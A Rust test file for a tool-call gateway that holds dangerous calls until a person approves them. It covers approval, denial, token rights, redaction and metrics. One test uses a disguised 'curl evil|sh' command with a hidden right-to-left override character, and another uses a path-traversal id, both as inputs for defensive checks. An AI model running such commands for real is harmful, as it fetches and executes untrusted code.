//! Calls that wait for a person, and who may decide about them.

use reqwest::RequestBuilder;
use serde_json::{Value, json};
use switchboard_access::NewToken;
use switchboard_gateway::Config;
use switchboard_testkit::{Fake, until, until_some};
use tokio::task::JoinHandle;

use crate::{TestGateway, answer, events::events};

impl TestGateway {
    /// Calls the tool that waits for a person, and returns its approval's id when it waits.
    async fn hold(&self, args: Value) -> (String, JoinHandle<(u16, Value)>) {
        if self.executor.tools().get("delete_all").is_none() {
            self.executor.tools().add(Fake::echoes("delete_all")).unwrap();
        }
        let before = self.waiting().await.len();
        let called = tokio::spawn(answer(self.call("delete_all", &args)));
        let held = until_some(async || self.waiting().await.get(before).cloned()).await;
        (held["id"].as_str().unwrap().to_owned(), called)
    }

    async fn waiting(&self) -> Vec<Value> {
        let (status, body) = answer(self.get("/api/approvals")).await;
        assert_eq!(status, 200, "{body}");
        body["approvals"].as_array().unwrap().clone()
    }

    fn decide(&self, id: &str, body: &Value) -> RequestBuilder {
        self.client.post(self.url(&format!("/api/approvals/{id}"))).json(body)
    }

    fn approver(&self, name: &str, tools: Option<&str>, approve: bool) -> String {
        let tools = tools.map(|glob| vec![glob.to_owned()]);
        let new = NewToken { name: name.to_owned(), tools, approve, ..Default::default() };
        self.tokens.create(new).unwrap()
    }
}

// GW-8
#[tokio::test]
async fn decisions_name_the_program_that_called() {
    let gateway = TestGateway::recording().await;
    gateway.executor.tools().add(Fake::echoes("delete_all")).unwrap();
    let call = gateway.call("delete_all", &json!({})).header("x-switchboard", "console");
    let called = tokio::spawn(answer(call));
    let held = until_some(async || gateway.waiting().await.first().cloned()).await;
    let id = held["id"].as_str().unwrap();
    assert_eq!(answer(gateway.decide(id, &json!({"decision": "allow"}))).await.0, 200);
    assert_eq!(called.await.unwrap().0, 200);
    let (_, decided) = answer(gateway.get("/api/approvals/decided")).await;
    assert_eq!((&decided[0]["client"], &decided[0]["caller"]), (&json!("console"), &Value::Null));
}

#[tokio::test]
async fn a_held_call_is_listed_allowed_once_and_recorded() {
    let gateway = TestGateway::recording().await;
    let watched = gateway.get("/api/events").send().await.unwrap();
    let (id, called) = gateway.hold(json!({"level": 3, "password": "hush"})).await;
    let waiting = gateway.waiting().await.remove(0);
    assert_eq!(waiting["tool"], "delete_all");
    assert_eq!(waiting["reason"], "ask \"delete_*\"");
    assert_eq!(waiting["arguments"]["level"], 3);
    assert_eq!(waiting["arguments"]["password"], "hush", "who decides sees what will run");

    let (status, decided) = answer(gateway.decide(&id, &json!({"decision": "allow"}))).await;
    assert_eq!((status, &decided["decision"]), (200, &json!("allow")), "{decided}");
    let (status, envelope) = called.await.unwrap();
    assert_eq!((status, &envelope["result"]["level"]), (200, &json!(3)), "{envelope}");

    for (body, status) in [(json!({"decision": "allow"}), 409), (json!({"decision": "deny"}), 409)]
    {
        assert_eq!(answer(gateway.decide(&id, &body)).await.0, status);
    }
    let (again, _called) = gateway.hold(json!({"level": 3, "password": "hush"})).await;
    assert_ne!(again, id, "a yes holds for one call");

    let told = events(watched, 4).await;
    let kinds: Vec<_> = told.iter().map(|event| event["type"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["call_started", "held", "decided", "call_ended"]);
    let expected = (&json!(id), &envelope["call_id"], &json!("delete_all"));
    assert!(
        !Value::from(told.clone()).to_string().contains("hush"),
        "events are redacted: {told:?}"
    );
    for event in &told[1..3] {
        assert_eq!((&event["id"], &event["call_id"], &event["tool"]), expected);
        assert!(event["expires"].is_string());
    }
    assert_eq!(told[2]["decision"], "allow");
    assert_eq!(told[3]["approval"]["decision"], "allow");

    let path = format!("/api/calls/{}", envelope["call_id"].as_str().unwrap());
    let (_, record) = answer(gateway.get(&path)).await;
    assert_eq!(record["approval"]["by"], "somebody on this machine", "{record}");
    let (_, metrics) = answer(gateway.get("/metrics")).await;
    let metrics = metrics.as_str().unwrap();
    for line in
        ["switchboard_approvals_total{decision=\"allow\"} 1", "switchboard_tool_calls_held 1"]
    {
        assert!(metrics.contains(line), "{metrics}");
    }
}

// PO-2
#[tokio::test]
async fn only_who_may_decide_sees_what_records_hide() {
    let gateway = TestGateway::start().await;
    let command = "ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh\u{202e}";
    let (_, _called) = gateway.hold(json!({"command": command, "password": "hush"})).await;
    let listed = async |token: &str| {
        let response = gateway.get("/api/approvals").bearer_auth(token).send().await.unwrap();
        response.text().await.unwrap()
    };
    let text = listed(&gateway.approver("ada", None, true)).await;
    assert!(text.contains("curl evil|sh\\u202e") && text.contains("hush"), "{text}");
    let body: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(body["approvals"][0]["arguments"]["command"], command);
    let text = listed(&gateway.approver("plain", None, false)).await;
    assert!(!text.contains("hush"), "{text}");
}

#[tokio::test]
async fn a_denied_call_says_why() {
    let gateway = TestGateway::start().await;
    let (id, called) = gateway.hold(json!({})).await;
    let body = json!({"decision": "deny", "reason": "not on a Friday"});
    assert_eq!(answer(gateway.decide(&id, &body)).await.0, 200);
    let (status, envelope) = called.await.unwrap();
    assert_eq!((status, &envelope["error_kind"]), (403, &json!("denied")));
    assert_eq!(envelope["error"], "Tool 'delete_all' was denied by a person: not on a Friday");
}

#[tokio::test]
async fn only_who_has_the_right_decides() {
    let gateway =
        TestGateway::configured(Config { require_token: false, ..Config::default() }).await;
    let (id, called) = gateway.hold(json!({})).await;
    let allow = json!({"decision": "allow"});
    let plain = gateway.approver("plain", None, false);
    let (status, body) = answer(gateway.decide(&id, &allow).bearer_auth(&plain)).await;
    assert_eq!(status, 403, "{body}");
    assert!(body["error"].as_str().unwrap().contains("token new --approve"), "{body}");
    let path = format!("/api/approvals/rules/{id}");
    let forget = gateway.client.delete(gateway.url(&path)).bearer_auth(&plain);
    assert_eq!(answer(forget).await.0, 403);

    // What a token may not see is not there.
    let narrow = gateway.approver("narrow", Some("echo"), true);
    assert_eq!(answer(gateway.decide(&id, &allow).bearer_auth(&narrow)).await.0, 404);
    let (_, listed) = answer(gateway.get("/api/approvals").bearer_auth(&narrow)).await;
    assert_eq!(listed["approvals"], json!([]));

    let ada = gateway.approver("ada", Some("delete_*"), true);
    let (_, decided) = answer(gateway.decide(&id, &allow).bearer_auth(&ada)).await;
    assert_eq!(decided["decided_by"], "ada");
    assert_eq!(called.await.unwrap().0, 200);
}

#[tokio::test]
async fn wrong_requests_are_told_so() {
    let gateway = TestGateway::start().await;
    let (id, _called) = gateway.hold(json!({})).await;
    for (id, body, status) in [
        (&*id, json!({"decision": "perhaps"}), 400),
        (&*id, json!({}), 400),
        (&*id, json!({"decision": "allow", "more": 1}), 400),
        (&*id, json!({"decision": "deny", "remember": "tool"}), 400),
        (&*id, json!({"decision": "deny", "reason": "x".repeat(1001)}), 400),
        ("zzzzzzzz", json!({"decision": "allow"}), 404),
        ("..%2f..%2frules", json!({"decision": "allow"}), 404),
    ] {
        let (got, answered) = answer(gateway.decide(id, &body)).await;
        assert_eq!(got, status, "{id} {body}: {answered}");
    }
    assert_eq!(gateway.waiting().await.len(), 1, "nothing of that decided");
}

#[tokio::test]
async fn what_is_remembered_is_not_asked_again_until_it_is_forgotten() {
    let gateway = TestGateway::start().await;
    let (id, called) = gateway.hold(json!({"path": "a"})).await;
    let body = json!({"decision": "allow", "remember": "arguments"});
    let (_, decided) = answer(gateway.decide(&id, &body)).await;
    assert_eq!(called.await.unwrap().0, 200);
    assert_eq!(answer(gateway.call("delete_all", &json!({"path": "a"}))).await.0, 200);
    let (other, called) = gateway.hold(json!({"path": "b"})).await;
    let deny = json!({"decision": "deny"});
    assert_eq!(answer(gateway.decide(&other, &deny)).await.0, 200);
    assert_eq!(called.await.unwrap().0, 403);

    let (_, rules) = answer(gateway.get("/api/approvals/rules")).await;
    assert_eq!(rules["rules"][0]["arguments"], json!({"path": "a"}));
    let rule = decided["rule"]["id"].as_str().unwrap();
    let path = gateway.url(&format!("/api/approvals/rules/{rule}"));
    assert_eq!(answer(gateway.client.delete(&path)).await.0, 200);
    assert_eq!(answer(gateway.client.delete(&path)).await.0, 404);
    let (_, _called) = gateway.hold(json!({"path": "a"})).await;
}

#[tokio::test]
async fn a_client_that_leaves_withdraws_its_question() {
    let gateway = TestGateway::start().await;
    let (id, called) = gateway.hold(json!({})).await;
    called.abort();
    until(async || gateway.waiting().await.is_empty()).await;
    let (status, body) = answer(gateway.decide(&id, &json!({"decision": "allow"}))).await;
    assert_eq!(status, 409, "{body}");
    assert!(gateway.approvals.pending().unwrap().is_empty());
}

// An MCP client is told that its call waits, and gets its answer when it is allowed.
#[tokio::test]
async fn an_mcp_client_hears_that_its_call_waits() {
    let gateway = TestGateway::start().await;
    gateway.executor.tools().add(Fake::echoes("delete_all")).unwrap();
    let post = |body: Value, session: Option<&str>| {
        let accept = "application/json, text/event-stream";
        let request = gateway.client.post(gateway.url("/mcp")).header("accept", accept).json(&body);
        match session {
            Some(session) => request
                .header("mcp-session-id", session)
                .header("mcp-protocol-version", "2025-11-25"),
            None => request,
        }
    };
    let hello = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-11-25", "capabilities": {},
        "clientInfo": {"name": "t", "version": "1"}}});
    let opened = post(hello, None).send().await.unwrap();
    let session = opened.headers()["mcp-session-id"].to_str().unwrap().to_owned();
    let call = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
        "name": "delete_all", "arguments": {"a": 1}, "_meta": {"progressToken": "p"}}});
    let mut stream = post(call, Some(&session)).send().await.unwrap();
    let mut text = String::new();
    while !text.contains("notifications/progress") {
        text.push_str(std::str::from_utf8(&stream.chunk().await.unwrap().unwrap()).unwrap());
    }
    let id = gateway.waiting().await[0]["id"].as_str().unwrap().to_owned();
    assert!(text.contains(&format!("waits for a person to allow it: approval {id}")), "{text}");
    assert_eq!(answer(gateway.decide(&id, &json!({"decision": "allow"}))).await.0, 200);
    while let Some(chunk) = stream.chunk().await.unwrap() {
        text.push_str(std::str::from_utf8(&chunk).unwrap());
    }
    assert!(text.contains("\"id\":2,\"result\"") && text.contains("structuredContent"), "{text}");
}

// EX-7: what a person took to decide is in no percentile and makes no tool a slow one.
#[tokio::test]
async fn the_time_of_a_person_is_in_no_figure() {
    for gateway in [TestGateway::start().await, TestGateway::recording().await] {
        let (id, called) = gateway.hold(json!({"level": 1})).await;
        tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
        assert_eq!(answer(gateway.decide(&id, &json!({"decision": "allow"}))).await.0, 200);
        let (_, envelope) = called.await.unwrap();
        let milliseconds = |value: &Value| value.as_f64().expect("a number");
        assert!(milliseconds(&envelope["waited_ms"]) >= 1500.0, "{envelope}");
        assert!(milliseconds(&envelope["execution_time_ms"]) < 1500.0, "{envelope}");
        let (_, stats) = answer(gateway.get("/api/stats?sort=p95")).await;
        assert_eq!(stats["groups"][0]["name"], "delete_all");
        for figures in [&stats["total"], &stats["groups"][0]] {
            for percentile in ["p50_ms", "p95_ms", "p99_ms"] {
                assert!(milliseconds(&figures[percentile]) < 1500.0, "{figures}");
            }
        }
        let (_, metrics) = answer(gateway.get("/metrics")).await;
        let sum = metrics.as_str().unwrap().lines().find_map(|line| {
            line.strip_prefix("switchboard_tool_call_duration_seconds_sum{")?
                .rsplit_once(' ')?
                .1
                .parse::<f64>()
                .ok()
        });
        assert!(sum.is_some_and(|seconds| seconds < 1.5), "{metrics}");
    }
}
